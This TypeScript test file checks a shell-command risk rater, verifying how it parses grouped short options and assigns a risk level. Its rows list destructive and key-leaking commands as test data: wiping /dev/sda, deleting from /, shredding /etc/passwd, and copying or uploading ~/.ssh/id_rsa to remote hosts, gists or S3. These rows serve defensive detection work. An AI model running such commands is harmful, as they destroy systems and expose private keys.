import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * An option that takes a value may end a group of short options (`truncate -cs 0 F`, `shred -un 3
 * F`, `setfacl -Rm ACL DIR`, `cp a /etc/hosts -bS .bak`) or be followed by its value in the same
 * word (`-cs0`): read as getopt reads the group, its value is no file the command acts on, so the
 * reason names the file that is, and a value neither raises the risk nor hides the real target
 * (a copy's destination after it). sed's and perl's `-i` take the rest of the word as a backup
 * suffix (`sed -ie …`: `-i` with suffix `e`, no `-e`). Each row gives the risk and a reason the line
 * must have.
 */
const rated = shellRater();

describe("option values at the end of a group of short options", () => {
  it.each<[string, Risk, string?]>([
    // truncate: -s SIZE, -r RFILE
    ["truncate -cs 0 f.log", "moderate", "truncates f.log"],
    ["truncate -cs 0 /etc/passwd", "critical", "truncates /etc/passwd"],
    ["truncate -cs0 logs/app.log", "moderate", "truncates logs/app.log"],
    ["truncate -cr /etc/passwd notes.txt", "moderate", "truncates notes.txt"],
    // shred: -n N, -s N
    ["shred -un 3 notes.txt", "high", "irrecoverably overwrites notes.txt"],
    ["shred -uzs 10 notes.txt", "high", "irrecoverably overwrites notes.txt"],
    ["shred -vun3 notes.txt", "high", "irrecoverably overwrites notes.txt"],
    ["shred -un 3 /etc/passwd", "critical", "irrecoverably overwrites /etc/passwd"],
    // setfacl: -m ACL, -M FILE
    ["setfacl -Rm u:ada:rw build", "moderate", "changes ownership or permissions of everything under build"],
    ["setfacl -RM /etc/acl build", "moderate", "changes ownership or permissions of everything under build"],
    ["setfacl -Rm u:ada:rw /etc", "critical", "changes ownership or permissions of everything under /etc"],
    // chattr: -p PROJECT
    ["chattr -Rp 5 +i build", "moderate", "changes ownership or permissions of everything under build"],
    ["chattr -Rp 5 +i /etc", "critical", "changes ownership or permissions of everything under /etc"],
    // cp, mv, install: -S SUFFIX, install's -m MODE, after the operands too
    ["cp a /etc/hosts -bS .bak", "critical", "overwrites the system file /etc/hosts"],
    ["cp -aS .bak a /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["mv a /etc/hosts -bS .bak", "critical", "moves files onto /etc/hosts, replacing it or what it holds"],
    ["mv -bS ~/.bashrc a b", "safe"],
    ["install a.sh /usr/local/bin/tool -Dm 755", "critical", "overwrites the system file /usr/local/bin/tool"],
    ["install -Dm 755 a.sh /usr/local/bin/tool", "critical", "overwrites the system file /usr/local/bin/tool"],
    // rsync: -e COMMAND, -T DIR
    ["rsync src/ /etc/nginx -ae ssh", "critical", "overwrites the system file /etc/nginx"],
    ["rsync -ae ssh src/ build/", "safe"],
    ["rsync -ae ssh ~/.ssh/id_rsa host:", "high", "copies /home/ada/.ssh/id_rsa to another machine"],
    // scp: -P PORT, -i KEY, -F CONFIG are no files sent
    ["scp -rP 2222 ~/.ssh/id_rsa host:", "high", "copies /home/ada/.ssh/id_rsa to another machine"],
    ["scp -ri ~/.ssh/id_rsa notes.txt host:", "safe"],
    ["scp -qF ~/.ssh/config notes.txt host:", "safe"],
    ["scp -ri ~/.ssh/deploy notes.txt ~/.ssh/id_rsa host:", "high", "copies /home/ada/.ssh/id_rsa to another machine"],
    // gh gist: -d DESCRIPTION
    ["gh gist create -pd ~/.ssh/id_rsa notes.txt", "safe"],
    ["gh gist create -pf id_rsa ~/.ssh/id_rsa", "high", "uploads /home/ada/.ssh/id_rsa to a gist, readable by anyone with its link"],
    // sed -i: -f SCRIPTFILE, -e SCRIPT in a group; `-ie` is -i with the suffix `e`, so the script is the first operand
    ["sed -i -nf /etc/hosts notes.txt", "moderate", "edits files in place"],
    ["sed -i -ne 's/a/b/p' /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["sed -ie '/etc/d' ~/.bashrc", "high", "overwrites /home/ada/.bashrc"],
    ["sed -ie 's/a/b/' /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["sed -i.self 's/a/b/' /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    // perl -i: -e CODE at the end of a group (`-lpe`); `-pie` is -i with the suffix `e`
    ["perl -i -lpe '/etc/d' notes.txt", "moderate", "edits files in place"],
    ["perl -pie 's/a/b/' /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["perl -MStorable -i -pe 1 /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    // right before: regression rows (option values as separate words, joined, long)
    ["truncate -s 0 logs/app.log", "moderate", "truncates logs/app.log"],
    ["truncate -c -s 0 a.log", "moderate", "truncates a.log"],
    ["truncate -s0 logs/app.log", "moderate", "truncates logs/app.log"],
    ["truncate --size=0 /etc/passwd", "critical", "truncates /etc/passwd"],
    ["truncate -r /etc/passwd notes.txt", "moderate", "truncates notes.txt"],
    ["shred -n 3 notes.txt", "high", "irrecoverably overwrites notes.txt"],
    ["shred -n3 notes.txt", "high", "irrecoverably overwrites notes.txt"],
    ["setfacl -R -m u:ada:rw build", "moderate", "changes ownership or permissions of everything under build"],
    ["chmod -R --reference /etc/shadow build", "moderate", "changes ownership or permissions of everything under build"],
    ["chmod -R 755 build", "moderate", "changes ownership or permissions of everything under build"],
    ["chmod -w /etc/passwd", "high", "changes ownership or permissions of /etc/passwd"],
    ["mv a /etc/hosts -S .bak", "critical", "moves files onto /etc/hosts, replacing it or what it holds"],
    ["mv -t /etc a", "critical", "moves files onto /etc, replacing it or what it holds"],
    ["cp a /etc/hosts -S .bak", "critical", "overwrites the system file /etc/hosts"],
    ["rsync -a src/ build/ --exclude /etc/passwd", "safe"],
    ["rsync -a src/ /etc/nginx --exclude .git", "critical", "overwrites the system file /etc/nginx"],
    ["scp -i ~/.ssh/id_rsa notes.txt host:", "safe"],
    ["sed -i -f script.sed /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["sed -i -e s/a/b/ /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["sed -i.bak '/etc/d' notes.txt", "moderate", "edits files in place"],
    ["sed -i '/etc/d' notes.txt", "moderate", "edits files in place"],
    ["perl -i -pe 's/a/b/' /etc/hosts", "critical", "overwrites the system file /etc/hosts"],
    ["perl -i -e 1 -I /etc notes.txt", "moderate", "edits files in place"],
    ["aws s3 cp --acl private ~/.ssh/id_rsa s3://b/", "high", "uploads /home/ada/.ssh/id_rsa to cloud storage"],
    ["npm i -Dw ws https://x.io/p.tgz", "moderate", "installs and builds a package from a URL (its install scripts run)"],
    // commands whose options are read otherwise, or whose rules skip nothing
    ["tar czf x.tgz dir", "safe"],
    ["tar -xf /etc/x.tar -C build", "safe"],
    ["dd if=/dev/zero of=/dev/sda", "critical"],
    ["find / -name x -delete", "critical"],
    // -i's suffix attached in a bundle (`-ie`: suffix "e"; `-pie`: perl's -p, -i with suffix "e") is still an edit in place.
    ["sed -ie 's/a/b/' notes.txt", "moderate", "edits files in place"],
    ["sed -ibak 's/a/b/' notes.txt", "moderate", "edits files in place"],
    ["sed -nie 's/a/b/p' notes.txt", "moderate", "edits files in place"],
    ["gsed -iE 's/a/b/' notes.txt", "moderate", "edits files in place"],
    ["perl -pie 's/a/b/' notes.txt", "moderate", "edits files in place"],
    ["perl -lpi.orig -e 's/a/b/' notes.txt", "moderate", "edits files in place"],
    ["ruby -pie 'gsub(/a/, \"b\")' notes.txt", "moderate", "edits files in place"],
    // Not -i: a letter of a value (perl's module name, sed's script after -e).
    ["perl -MList::Util=sum -e 'print sum(1,2)'", "safe"],
    ["perl -Mutf8 -ne 'print' notes.txt", "safe"],
    ["sed -e 's/i/j/' notes.txt", "safe"],
    ["sed -n 's/a/b/p' notes.txt", "safe"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});
